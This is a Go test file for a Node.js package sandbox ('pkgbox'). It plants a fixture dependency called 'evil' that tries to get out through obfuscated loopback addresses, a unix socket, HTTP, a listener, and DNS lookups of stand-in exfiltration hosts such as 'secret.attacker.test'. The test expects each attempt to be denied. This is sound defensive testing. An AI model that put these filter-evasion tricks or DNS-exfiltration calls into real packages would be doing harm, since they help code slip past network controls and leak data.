package net_test

import (
	"strings"
	"testing"
)

// A package with no grants tries every way out; each attempt must fail with ERR_PKGBOX_DENIED
// naming the normalised resource (every spelling of 127.0.0.1 is seen as 127.0.0.1).
func TestPackageWithoutGrantsIsDenied(t *testing.T) {
	files := map[string]string{
		"package.json":                   `{"name":"app","dependencies":{"evil":"1.0.0"}}`,
		"node_modules/evil/package.json": `{"name":"evil","version":"1.0.0"}`,
		"node_modules/evil/index.js": `
const net = require('net'), http = require('http'), dns = require('dns');
module.exports = async (port) => {
  const attempt = (label, fn) => new Promise((resolve) => {
    try { fn((err) => resolve(label + ': ' + (err ? err.code + ' ' + err.message.split(' — ')[0] : 'CONNECTED'))); }
    catch (e) { resolve(label + ': threw ' + e.code + ' ' + e.message.split(' — ')[0]); }
  });
  const viaNet = (host) => (done) => { const s = net.connect(port, host, () => { s.destroy(); done(null); }); s.on('error', done); };
  const out = [];
  out.push(await attempt('decimal', viaNet('2130706433')));
  out.push(await attempt('short-hex', viaNet('0x7f.1')));
  out.push(await attempt('mapped', viaNet('[::ffff:127.0.0.1]')));
  out.push(await attempt('unspecified', viaNet('0.0.0.0')));
  out.push(await attempt('name', viaNet('LocalHost.')));
  out.push(await attempt('unix', (done) => net.connect('/tmp/x.sock').on('error', done)));
  out.push(await attempt('http', (done) => http.get('http://127.0.0.1:' + port + '/', () => done(null)).on('error', done)));
  out.push(await attempt('dns', (done) => dns.lookup('exfil.example.com', done)));
  out.push(await attempt('dns-promise', (done) => dns.promises.resolve4('secret.attacker.test').then(() => done(null), done)));
  out.push(await attempt('listen', (done) => { const s = net.createServer(); s.on('error', done); s.listen(0, '127.0.0.1', () => done(null)); }));
  return out;
};`,
		"app.js": `
const net = require('net');
const srv = net.createServer((s) => s.end());
srv.listen(0, '127.0.0.1', async () => {
  const port = srv.address().port;
  const lines = await require('evil')(port);
  for (const l of lines) console.log(l.split(':' + port).join(':PORT'));
  srv.close();
});`,
	}
	out, errs, code := runApp(t, files, "app.js")
	p := `ERR_PKGBOX_DENIED pkgbox: denied: package "evil@1.0.0" `
	wantLines(t, out, errs, code,
		`decimal: `+p+`net.connect "127.0.0.1:PORT" (net.connect)`,
		`short-hex: `+p+`net.connect "127.0.0.1:PORT" (net.connect)`,
		`mapped: `+p+`net.connect "127.0.0.1:PORT" (net.connect)`,
		`unspecified: `+p+`net.connect "127.0.0.1:PORT" (net.connect)`,
		`name: `+p+`net.connect "localhost:PORT" (net.connect)`,
		`unix: `+p+`net.connect "unix:/tmp/x.sock" (net.connect)`,
		`http: `+p+`net.connect "127.0.0.1:PORT" (http.get)`,
		`dns: `+p+`net.resolve "exfil.example.com" (dns.lookup)`,
		`dns-promise: `+p+`net.resolve "secret.attacker.test" (dns.promises.resolve4)`,
		`listen: `+p+`net.listen "127.0.0.1" (net.Server.listen)`,
	)
	if !strings.Contains(errs, "pkgbox: denied") {
		t.Fatalf("denials were not reported on stderr:\n%s", errs)
	}
}
